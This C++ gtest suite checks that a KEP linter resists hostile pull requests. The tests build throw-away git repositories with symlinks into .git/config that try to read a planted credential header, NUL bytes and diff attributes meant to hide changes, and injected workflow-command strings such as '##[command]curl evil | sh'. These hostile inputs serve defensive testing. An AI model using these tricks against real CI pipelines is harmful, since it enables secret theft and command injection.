// Issue 16: the pull request under test must not steer, blind or escape the gate. Each test
// builds a throw-away git repository holding what a hostile pull request can commit and runs
// the real binary (or the library function that does the work) on it.
#include <fcntl.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>

#include "engine/fixer.h"
#include "git_fixture.h"
#include "kep_lint_runner.h"
#include "repo/process.h"
#include "repo/repository.h"
#include "test_pack.h"

namespace keplint {
namespace {

namespace fs = std::filesystem;
using testing::commit_all;
using ::testing::Contains;
using ::testing::ElementsAre;
using testing::Env;
using testing::git;
using ::testing::HasSubstr;
using ::testing::Not;
using testing::write_file;
using testing::write_kep;

std::string read_text(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

// The test pack plus the file-readable check, which reports what cannot be linted.
constexpr const char* kReadableRule = R"(
  - id: T008
    name: file-readable
    severity: error
    applies-to: proposal
    description: the proposal's files can be read
    check: {kind: file-readable}
)";

constexpr const char* kSecret = "AUTHORIZATION: basic c2VjcmV0LXRva2Vu";

class UntrustedPrTest : public ::testing::Test {
 protected:
  void SetUp() override {
    testing::isolate_git_config();
    root_ = tmp_.path() / "repo";
    pack_ = tmp_.path() / "pack";
    outside_ = tmp_.path() / "outside";
    testing::write_test_pack(pack_);
    std::ofstream(pack_ / "rules.yaml", std::ios::app) << kReadableRule;
    // For `report --release`.
    std::ofstream(pack_ / "pack.yaml", std::ios::app)
        << "release:\n  targets:\n    status: provisional\n";
    fs::create_directories(outside_);
    testing::init_repo(root_);
    // What actions/checkout leaves behind with persist-credentials.
    git(root_, {"config", "http.https://github.com/.extraheader", kSecret});
  }

  // kep-lint with the test pack in `dir` (default: the repository), with exactly `env` plus
  // PATH and HOME, under `timeout` so that a hang fails instead of blocking the suite.
  ProcessResult lint(std::vector<std::string> args, const Env& env = {}, const fs::path& dir = {}) {
    args.insert(args.begin(), {"--rules", pack_.string()});
    return testing::run_kep_lint(args, dir.empty() ? root_ : dir, tmp_.path(), env);
  }

  // "T001 keps/sig-a/1-one/kep.yaml:12" for each finding of --format json output.
  static std::vector<std::string> findings(const std::string& json_text) {
    std::vector<std::string> out;
    if (!nlohmann::json::accept(json_text)) return {"not JSON: " + json_text};
    nlohmann::json json = nlohmann::json::parse(json_text);  // outlives the loop
    for (const auto& f : json["findings"]) {
      out.push_back(f["rule"].get<std::string>() + " " + f["path"].get<std::string>() + ":" +
                    std::to_string(f["range"]["start"]["line"].get<int>()));
    }
    return out;
  }

  void write(const std::string& rel, const std::string& text) { write_file(root_ / rel, text); }

  // owning-sig on line 10, status on line 12: a change to line 12 leaves line 10 in context
  // but not among the added lines.
  void write_spaced_kep(const std::string& dir, const std::string& sig, const std::string& status,
                        const std::string& tail = "") {
    write(dir + "/kep.yaml",
          "title: one\nkep-number: 1\nauthors: ['@someone']\n# 4\n# 5\n# 6\n# 7\n# 8\n# 9\n"
          "owning-sig: " +
              sig + "\n# 11\nstatus: " + status + "\n" + tail);
    write(dir + "/README.md", "# one\n");
  }

  testing::TempDir tmp_;
  fs::path root_;
  fs::path pack_;
  fs::path outside_;
};

// ---- item 2: a file git shows no hunks for keeps all its findings --------------------------

TEST_F(UntrustedPrTest, NulByteDoesNotBlindTheLineFilters) {
  write_spaced_kep("keps/sig-a/1-one", "sig-nope", "provisional");
  commit_all(root_, "base");
  git(root_, {"checkout", "-q", "-b", "pr"});
  write_spaced_kep("keps/sig-a/1-one", "sig-nope", "provisional", std::string("# \0\n", 4));
  commit_all(root_, "pr");
  for (std::string mode : {"added", "diff_context"}) {
    ProcessResult r = lint({"--changed-from", "main", "--filter-mode", mode, "--format", "json"});
    EXPECT_EQ(r.exit_code, 1) << mode << ": " << r.out << r.err;
    EXPECT_THAT(findings(r.out), Contains("T008 keps/sig-a/1-one/kep.yaml:13")) << mode;
  }
}

TEST_F(UntrustedPrTest, DiffAttributeDoesNotBlindTheLineFilters) {
  write(".gitattributes", "keps/** -diff\n");
  write_spaced_kep("keps/sig-a/1-one", "sig-a", "provisional");
  commit_all(root_, "base");
  git(root_, {"checkout", "-q", "-b", "pr"});
  write_spaced_kep("keps/sig-a/1-one", "sig-a", "bogus");
  commit_all(root_, "pr");
  ProcessResult r = lint({"--changed-from", "main", "--filter-mode", "added", "--format", "json"});
  EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
  EXPECT_THAT(findings(r.out), ElementsAre("T001 keps/sig-a/1-one/kep.yaml:12"));
}

TEST_F(UntrustedPrTest, FileWithoutHunksKeepsAllItsFindings) {
  // A mode-only change: git emits no hunk at all, whatever the options.
  write_spaced_kep("keps/sig-a/1-one", "sig-nope", "bogus");
  commit_all(root_, "base");
  git(root_, {"checkout", "-q", "-b", "pr"});
  fs::permissions(root_ / "keps/sig-a/1-one/kep.yaml", fs::perms::owner_exec,
                  fs::perm_options::add);
  commit_all(root_, "pr");
  // The base had both findings: the filters are what is under test, so without the base
  // comparison (which would report them as pre-existing and pass).
  for (std::string mode : {"added", "diff_context"}) {
    ProcessResult r = lint(
        {"--changed-from", "main", "--no-base-compare", "--filter-mode", mode, "--format", "json"});
    EXPECT_EQ(r.exit_code, 1) << mode << ": " << r.out << r.err;
    EXPECT_THAT(findings(r.out), ElementsAre("T004 keps/sig-a/1-one/kep.yaml:10",
                                             "T001 keps/sig-a/1-one/kep.yaml:12"))
        << mode;
    ProcessResult compared =
        lint({"--changed-from", "main", "--filter-mode", mode, "--format", "json"});
    EXPECT_EQ(compared.exit_code, 0) << mode << ": " << compared.out << compared.err;
    EXPECT_EQ(findings(compared.out).size(), 2u) << "kept, as pre-existing";
  }
}

// ---- item 3: outputs never follow a symlink the pull request commits -----------------------

TEST_F(UntrustedPrTest, OutputsRefuseSymlinksCommittedByThePullRequest) {
  write_kep(root_, "sig-a", "1", "one");
  fs::path victim = outside_ / "victim";
  write_file(victim, "precious\n");
  fs::create_symlink(victim, root_ / "kep-lint.sarif");
  fs::create_symlink(outside_, root_ / "out");
  commit_all(root_, "pr");

  for (std::vector<std::string> args :
       {std::vector<std::string>{"--format", "sarif:kep-lint.sarif"},
        std::vector<std::string>{"--format", "sarif", "-o", "kep-lint.sarif"},
        std::vector<std::string>{"--format", "json:out/report.json"},
        std::vector<std::string>{"report", "--release", "v1.0", "-o", "kep-lint.sarif"}}) {
    ProcessResult r = lint(args);
    EXPECT_EQ(r.exit_code, 2) << args[1] << ": " << r.err;
    EXPECT_THAT(r.err, HasSubstr("symbolic link")) << args[1];
  }
  EXPECT_EQ(read_text(victim), "precious\n");
  EXPECT_FALSE(fs::exists(outside_ / "report.json"));

  // The CI files too: the step summary and Prow's JUnit file.
  fs::create_symlink(victim, root_ / "summary.md");
  ProcessResult gh =
      lint({}, {{"GITHUB_ACTIONS", "true"}, {"GITHUB_STEP_SUMMARY", (root_ / "summary.md")}});
  EXPECT_EQ(gh.exit_code, 2) << gh.err;
  EXPECT_THAT(gh.err, HasSubstr("symbolic link"));
  fs::create_directories(root_ / "artifacts");
  fs::create_symlink(victim, root_ / "artifacts/junit_kep-lint.xml");
  ProcessResult prow =
      lint({}, {{"PROW_JOB_ID", "1"}, {"JOB_TYPE", "periodic"}, {"ARTIFACTS", "artifacts"}});
  EXPECT_EQ(prow.exit_code, 2) << prow.err;
  EXPECT_THAT(prow.err, HasSubstr("symbolic link"));
  EXPECT_EQ(read_text(victim), "precious\n");
}

TEST_F(UntrustedPrTest, StepSummaryThatIsAFifoDoesNotHang) {
  write_kep(root_, "sig-a", "1", "one");
  commit_all(root_, "base");
  fs::path fifo = tmp_.path() / "summary";
  ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
  ProcessResult r = lint({}, {{"GITHUB_ACTIONS", "true"}, {"GITHUB_STEP_SUMMARY", fifo.string()}});
  EXPECT_EQ(r.exit_code, 2) << r.err;
  EXPECT_THAT(r.err, HasSubstr("not a regular file"));
}

// ---- item 4: nothing under .git is read ----------------------------------------------------

TEST_F(UntrustedPrTest, KepYamlLinkedIntoDotGitIsNotRead) {
  write_kep(root_, "sig-a", "1", "one");
  fs::remove(root_ / "keps/sig-a/1-one/kep.yaml");
  fs::create_symlink("../../../.git/config", root_ / "keps/sig-a/1-one/kep.yaml");
  commit_all(root_, "pr");
  ProcessResult r = lint({"--format", "text"});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  EXPECT_THAT(r.out, Not(HasSubstr("c2VjcmV0")));
  EXPECT_THAT(r.err, Not(HasSubstr("c2VjcmV0")));
  EXPECT_THAT(r.out, HasSubstr("refusing to read inside .git"));

  ProcessResult json = lint({"--format", "json"});
  EXPECT_THAT(findings(json.out), Contains("T008 keps/sig-a/1-one/kep.yaml:0"));
}

TEST_F(UntrustedPrTest, ConfigCannotNameFilesInsideDotGit) {
  write_kep(root_, "sig-a", "1", "one");
  commit_all(root_, "base");
  for (std::string config : {"baseline: .git/config\n", "datasets: {sigs: .git/config}\n",
                             "baseline: keps/../.git/config\n"}) {
    write(".kep-lint.yaml", config);
    ProcessResult r = lint({"--format", "text"});
    EXPECT_EQ(r.exit_code, 2) << config << r.out << r.err;
    EXPECT_THAT(r.err, HasSubstr("refusing to read inside .git")) << config;
    EXPECT_THAT(r.out + r.err, Not(HasSubstr("c2VjcmV0"))) << config;
  }
  fs::remove(root_ / ".kep-lint.yaml");
  for (std::vector<std::string> args : {std::vector<std::string>{"--baseline", ".git/config"},
                                        std::vector<std::string>{"--dataset", "sigs=.git/config"},
                                        std::vector<std::string>{"--config", ".git/config"}}) {
    ProcessResult r = lint(args);
    EXPECT_EQ(r.exit_code, 2) << args[0] << r.out << r.err;
    EXPECT_THAT(r.err, HasSubstr("refusing to read inside .git")) << args[0];
    EXPECT_THAT(r.out + r.err, Not(HasSubstr("c2VjcmV0"))) << args[0];
  }
}

TEST_F(UntrustedPrTest, RepositoryNeverReadsInsideDotGit) {
  write_kep(root_, "sig-a", "1", "one");
  write("sub/.git", "gitdir: ../.git/modules/sub\n");  // a submodule's .git file
  fs::create_symlink(".git/config", root_ / "config-link");
  fs::create_symlink(".git", root_ / "gitdir-link");
  Repository repo(root_);
  for (std::string path :
       {".git/config", "config-link", "sub/.git", "gitdir-link/config", "keps/../.git/HEAD"}) {
    ReadResult r = repo.read(path);
    EXPECT_FALSE(r.ok()) << path;
    EXPECT_THAT(r.detail, HasSubstr("refusing to read inside .git")) << path;
    EXPECT_FALSE(repo.is_file(path)) << path;
  }
  EXPECT_FALSE(repo.is_directory(".git"));
  EXPECT_FALSE(repo.is_directory("gitdir-link"));
  EXPECT_TRUE(repo.list_directory(".git").empty());
  EXPECT_THAT(repo.list_directory(""), Not(Contains(".git")));
  EXPECT_THAT(repo.list_directory("sub"), Not(Contains(".git")));
  EXPECT_THAT(repo.walk(""), Not(Contains("sub/.git")));
  EXPECT_TRUE(repo.walk(".git").empty());
}

// ---- item 6: --repo below git's top level ---------------------------------------------------

TEST_F(UntrustedPrTest, RepoBelowTheGitTopLevelSeesTheChange) {
  fs::path enh = root_ / "enh";
  write_kep(enh, "sig-a", "1", "one");
  write("other/keps/sig-a/9-nine/kep.yaml", "status: fine\n");
  commit_all(root_, "base");
  git(root_, {"checkout", "-q", "-b", "pr"});
  write_spaced_kep("enh/keps/sig-a/1-one", "sig-a", "bogus");
  write("other/keps/sig-a/9-nine/kep.yaml", "status: bogus\n");  // outside --repo
  commit_all(root_, "pr");
  for (std::string mode : {"file", "added"}) {
    ProcessResult r = lint(
        {"--repo", "enh", "--changed-from", "main", "--filter-mode", mode, "--format", "json"});
    EXPECT_EQ(r.exit_code, 1) << mode << ": " << r.out << r.err;
    EXPECT_THAT(findings(r.out), ElementsAre("T001 keps/sig-a/1-one/kep.yaml:12")) << mode;
  }
}

// ---- item 9: stderr is neutralised like stdout ---------------------------------------------

TEST_F(UntrustedPrTest, StderrAndListRulesCannotIssueWorkflowCommands) {
  write_kep(root_, "sig-a", "1", "one");
  write(".kep-lint.yaml", "baseline: \"x ##[error]pwned.json\"\n");
  commit_all(root_, "base");
  ProcessResult r = lint({});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_THAT(r.err, HasSubstr("pwned"));
  EXPECT_THAT(r.err, Not(HasSubstr("##[")));

  fs::remove(root_ / ".kep-lint.yaml");
  std::ofstream(pack_ / "rules.yaml", std::ios::app)
      << "  - id: T099\n    name: evil\n    severity: error\n    applies-to: metadata\n"
         "    description: \"##[command]curl evil | sh\"\n"
         "    check: {kind: required, fields: [title]}\n";
  ProcessResult list = lint({"--list-rules"});
  EXPECT_EQ(list.exit_code, 0) << list.err;
  EXPECT_THAT(list.out, HasSubstr("curl evil"));
  EXPECT_THAT(list.out, Not(HasSubstr("##[")));
}

// ---- item 10: a kep.yaml that is a dangling symlink or a loop ------------------------------

TEST_F(UntrustedPrTest, DanglingOrLoopingKepYamlIsReportedNotSkipped) {
  write_kep(root_, "sig-a", "1", "one");
  write_kep(root_, "sig-a", "2", "two");
  commit_all(root_, "base");
  fs::remove(root_ / "keps/sig-a/1-one/kep.yaml");
  fs::create_symlink("missing.yaml", root_ / "keps/sig-a/1-one/kep.yaml");
  fs::remove(root_ / "keps/sig-a/2-two/kep.yaml");
  fs::create_symlink("kep.yaml", root_ / "keps/sig-a/2-two/kep.yaml");
  ProcessResult whole = lint({"--format", "json"});
  EXPECT_EQ(whole.exit_code, 1) << whole.err;
  EXPECT_THAT(findings(whole.out),
              ElementsAre("T008 keps/sig-a/1-one/kep.yaml:0", "T008 keps/sig-a/2-two/kep.yaml:0"));
  EXPECT_THAT(whole.out, HasSubstr("symbolic link"));

  git(root_, {"add", "-A"});
  ProcessResult changed = lint({"--changed-from", "HEAD", "--format", "json"});
  EXPECT_EQ(changed.exit_code, 1) << changed.err;
  EXPECT_THAT(findings(changed.out),
              ElementsAre("T008 keps/sig-a/1-one/kep.yaml:0", "T008 keps/sig-a/2-two/kep.yaml:0"));
}

// ---- item 11: --fix does not write through a directory swapped for a symlink ---------------

TEST_F(UntrustedPrTest, FixDoesNotFollowADirectorySwappedForASymlink) {
  write("keps/sig-a/1-one/README.md", "old\n");
  write_file(outside_ / "README.md", "old\n");
  Repository repo(root_);
  ReadResult read = repo.read("keps/sig-a/1-one/README.md");
  ASSERT_TRUE(read.ok());
  Finding f;
  f.path = "keps/sig-a/1-one/README.md";
  f.source = read.source;
  f.fixed_text = std::make_shared<std::string>("fixed\n");
  // Between the read and the write, the KEP directory becomes a link out of the repository.
  fs::rename(root_ / "keps/sig-a/1-one", tmp_.path() / "moved");
  fs::create_symlink(outside_, root_ / "keps/sig-a/1-one");
  std::ostringstream diff;
  FixOutcome outcome = apply_fixes(repo, {f}, false, diff);
  EXPECT_TRUE(outcome.fixed.empty());
  ASSERT_EQ(outcome.errors.size(), 1u);
  EXPECT_THAT(outcome.errors[0], HasSubstr("symbolic link"));
  EXPECT_EQ(read_text(outside_ / "README.md"), "old\n");
  EXPECT_EQ(std::distance(fs::directory_iterator(outside_), {}), 1);  // no temporary file
}

// ---- item 13: a base that is HEAD itself; TAB and line separators --------------------------

TEST_F(UntrustedPrTest, BaseThatIsHeadFailsClosedInCi) {
  write_kep(root_, "sig-a", "1", "one", "bogus");
  std::string head = commit_all(root_, "base");
  for (std::string base : {std::string("HEAD"), head}) {
    ProcessResult r = lint({"--changed-from", "auto", "--format", "json"},
                           {{"JOB_TYPE", "presubmit"}, {"PULL_BASE_SHA", base}});
    EXPECT_EQ(r.exit_code, 2) << base << ": " << r.out << r.err;
    EXPECT_THAT(r.err, HasSubstr("is HEAD itself")) << base;
  }
  ProcessResult explicit_base = lint({"--changed-from", head, "--format", "json"},
                                     {{"JOB_TYPE", "presubmit"}, {"PROW_JOB_ID", "1"}});
  EXPECT_EQ(explicit_base.exit_code, 2) << explicit_base.out << explicit_base.err;
}

TEST_F(UntrustedPrTest, TabsAndLineSeparatorsAreEscapedInTextAndGithub) {
  write("keps/sig-a/1-one/kep.yaml",
        "title: one\nkep-number: 1\nowning-sig: sig-a\nauthors: ['@someone']\n"
        "status: \"a\\tb\\u2028c\\u2029d\"\n");
  write("keps/sig-a/1-one/README.md", "# one\n");
  commit_all(root_, "base");
  ProcessResult text = lint({"--format", "text", "--color", "never"});
  EXPECT_EQ(text.exit_code, 1) << text.err;
  EXPECT_THAT(text.out, HasSubstr("a\\tb\\u{2028}c\\u{2029}d"));
  ProcessResult gh = lint({"--format", "github"});
  EXPECT_EQ(gh.exit_code, 1) << gh.err;
  for (std::string out : {text.out, gh.out}) {
    EXPECT_THAT(out, Not(HasSubstr("\t")));
    EXPECT_THAT(out, Not(HasSubstr("\u2028")));
    EXPECT_THAT(out, Not(HasSubstr("\u2029")));
  }
  EXPECT_THAT(gh.out, HasSubstr("a\\tb\\u{2028}c\\u{2029}d"));
}

}  // namespace
}  // namespace keplint
